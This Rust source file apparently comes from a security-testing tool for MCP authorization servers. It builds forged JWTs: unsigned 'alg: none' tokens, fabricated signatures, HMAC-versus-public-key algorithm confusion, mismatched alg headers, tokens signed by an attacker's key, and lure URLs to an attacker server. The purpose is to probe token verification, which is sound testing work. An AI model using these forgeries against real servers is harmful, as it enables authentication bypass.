use std::time::{SystemTime, UNIX_EPOCH};

use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD as BASE64URL};
use jsonwebtoken::{Algorithm as Jwa, EncodingKey, crypto};
use mcp_auth::keys::{Algorithm, PublicKey};
use serde_json::{Map, Value, json};

use crate::{
    attack::{Needs, NotBuilt},
    attacker::Attacker,
    target::{Key, Target},
    wire::RawRequest,
};

/// What is forged, or why not.
pub(crate) type Forged<T = String> = Result<T, NotBuilt>;

/// Makes the tokens of one row. Each starts from what a good token looks like, so that one thing alone is wrong.
#[derive(Debug)]
pub struct Forge<'a> {
    target: &'a Target,
    id: &'static str,
}

impl<'a> Forge<'a> {
    pub(crate) const fn new(target: &'a Target, id: &'static str) -> Self {
        Self { target, id }
    }

    pub(crate) const fn target(&self) -> &'a Target {
        self.target
    }

    pub(crate) const fn attacker(&self) -> &'a Attacker {
        self.target.attacker()
    }

    /// A URL of the attacker's server that tells which row it was in.
    pub(crate) fn lure(&self, file: &str) -> String {
        format!("{}/{}/{file}", self.attacker().origin(), self.id)
    }

    // What is known.

    /// A token that the server accepts: the given one, or one that is signed now.
    pub(crate) fn good(&self) -> Forged {
        match &self.target.token {
            Some(token) => Ok(token.clone()),
            None => self.with_claims(json!({})).map_err(|_| NotBuilt::Needs(Needs::Token)),
        }
    }

    /// The three parts of a good token.
    pub(crate) fn good_parts(&self) -> Forged<[String; 3]> {
        let good = self.good().map_err(|_| NotBuilt::Needs(Needs::Jwt))?;
        let parts: Vec<String> = good.split('.').map(str::to_owned).collect();
        parts.try_into().map_err(|_| NotBuilt::Needs(Needs::Jwt))
    }

    /// The key that signs.
    pub(crate) fn key(&self) -> Forged<&'a Key> {
        self.target.keys.first().ok_or(NotBuilt::Needs(Needs::SigningKey))
    }

    pub(crate) fn key_for(&self, algorithm: Algorithm) -> Forged<&'a Key> {
        let mut keys = self.target.keys.iter();
        let key = keys.find(|key| key.public().algorithm() == algorithm);
        key.ok_or(NotBuilt::Needs(Needs::SigningKeyFor(algorithm)))
    }

    /// A key that is not the only one for its algorithm.
    pub(crate) fn one_of_two(&self) -> Forged<&'a Key> {
        let algorithm = |key: &Key| key.public().algorithm();
        let keys = &self.target.keys;
        let several = |key: &&Key| keys.iter().filter(|other| algorithm(other) == algorithm(key)).count() > 1;
        keys.iter().find(several).ok_or(NotBuilt::Needs(Needs::TwoKeys))
    }

    /// The public key that the good token is verified with.
    pub(crate) fn public(&self) -> Forged<&'a PublicKey> {
        let key = self.target.keys.first().map(Key::public).or(self.target.public.as_ref());
        key.ok_or(NotBuilt::Needs(Needs::PublicKey))
    }

    pub(crate) fn session(&self) -> Forged<&'a str> {
        self.target.session.as_deref().ok_or(NotBuilt::Needs(Needs::Session))
    }

    /// The header of a good token, as far as it is known.
    pub(crate) fn header(&self) -> Value {
        match (self.public(), &self.target.token) {
            (Ok(public), _) => header_for(public),
            (Err(_), Some(token)) => decoded(token, 0).unwrap_or_else(|| json!({ "alg": "RS256", "typ": "at+jwt" })),
            (Err(_), None) => json!({ "alg": "RS256", "typ": "at+jwt" }),
        }
    }

    /// The claims of a good token: of the given one if nothing can be signed, else as `gen-token` writes them.
    pub(crate) fn claims(&self) -> Value {
        let given = self.target.token.as_ref().filter(|_| self.target.keys.is_empty());
        given.and_then(|token| decoded(token, 1)).unwrap_or_else(|| {
            let Target { issuer, audience, subject, scopes, .. } = self.target;
            json!({
                "iss": issuer, "aud": audience, "sub": subject, "iat": now(), "exp": now() + 600,
                "scope": scopes.join(" "), "scopes": scopes, "roles": ["user"],
                "preferred_username": subject, "client_id": "mcp-attack",
            })
        })
    }

    pub(crate) fn leeway(&self) -> i64 {
        self.target.leeway.as_secs().try_into().unwrap_or(i64::MAX)
    }

    // Signed by the real key: as the issuer would, if it were made to sign this.

    /// A token whose header differs from a good one's; null removes a member.
    pub(crate) fn with_header(&self, changes: Value) -> Forged {
        self.signed(&with(self.header(), changes), &self.claims())
    }

    /// A token whose claims differ from a good one's; null removes a claim.
    pub(crate) fn with_claims(&self, changes: Value) -> Forged {
        self.signed(&self.header(), &with(self.claims(), changes))
    }

    pub(crate) fn signed(&self, header: &Value, claims: &Value) -> Forged {
        self.signed_text(&header.to_string(), claims.to_string())
    }

    /// Of any bytes.
    pub(crate) fn signed_text(&self, header: &str, claims: impl AsRef<[u8]>) -> Forged {
        let key = self.key()?;
        let message = joined(header, claims);
        Ok(format!("{message}.{}", key.sign(&message, key.algorithm())?))
    }

    /// Good but for `alg`: the header says one thing, the signature of that key is made by another.
    pub(crate) fn signed_as(&self, key: &Key, header_alg: &str, algorithm: Jwa) -> Forged {
        let header = with(header_for(key.public()), json!({ "alg": header_alg }));
        let message = joined(&header.to_string(), self.claims().to_string());
        Ok(format!("{message}.{}", key.sign(&message, algorithm)?))
    }

    // Signed by nobody, or by somebody else.

    /// A token without a signature: `header.claims.`
    pub(crate) fn unsigned(&self, header: Value) -> Forged {
        Ok(format!("{}.", joined(&with(self.header(), header).to_string(), self.claims().to_string())))
    }

    /// With a signature that was never made by anyone.
    pub(crate) fn with_signature(&self, header: Value, signature: &[u8]) -> Forged {
        Ok(format!("{}{}", self.unsigned(header)?, BASE64URL.encode(signature)))
    }

    /// With a MAC in place of a signature. Whoever verifies with one key of two meanings takes it.
    pub(crate) fn mac(&self, header: Value, algorithm: Jwa, secret: &[u8]) -> Forged {
        let name = format!("{algorithm:?}");
        let header = with(with(self.header(), json!({ "alg": name })), header);
        let message = joined(&header.to_string(), self.claims().to_string());
        let mac = crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), algorithm);
        Ok(format!("{message}.{}", mac.map_err(|error| NotBuilt::Signing(error.to_string()))?))
    }

    /// Signed by the attacker's RSA key.
    pub(crate) fn by_attacker(&self, header: Value, claims: Value) -> Forged {
        self.by(self.attacker().rsa(), header, claims)
    }

    pub(crate) fn by(&self, key: &Key, header: Value, claims: Value) -> Forged {
        let own_alg = json!({ "alg": key.public().algorithm().as_str() });
        let header = with(with(self.header(), own_alg), header);
        let message = joined(&header.to_string(), with(self.claims(), claims).to_string());
        Ok(format!("{message}.{}", key.sign(&message, key.algorithm())?))
    }

    /// The row's request before any credential is in it.
    pub(crate) fn probe(&self) -> RawRequest {
        RawRequest::probe(self.target)
    }
}

pub(crate) fn now() -> i64 {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
    since.as_secs().try_into().unwrap_or(i64::MAX)
}

pub(crate) fn header_for(key: &PublicKey) -> Value {
    json!({ "alg": key.algorithm().as_str(), "typ": "at+jwt", "kid": key.kid() })
}

/// `base` with some members replaced; null removes one.
pub(crate) fn with(base: Value, changes: Value) -> Value {
    let (Value::Object(mut base), Value::Object(changes)) = (base, changes) else { return Value::Null };
    for (name, value) in changes {
        match value {
            Value::Null => drop(base.shift_remove(&name)),
            value => drop(base.insert(name, value)),
        }
    }
    Value::Object(base)
}

/// What a signature is over (RFC 7515 §5.1).
pub(crate) fn joined(header: &str, claims: impl AsRef<[u8]>) -> String {
    format!("{}.{}", BASE64URL.encode(header), BASE64URL.encode(claims))
}

fn decoded(token: &str, part: usize) -> Option<Value> {
    let bytes = BASE64URL.decode(token.split('.').nth(part)?).ok()?;
    serde_json::from_slice::<Map<String, Value>>(&bytes).ok().map(Value::Object)
}
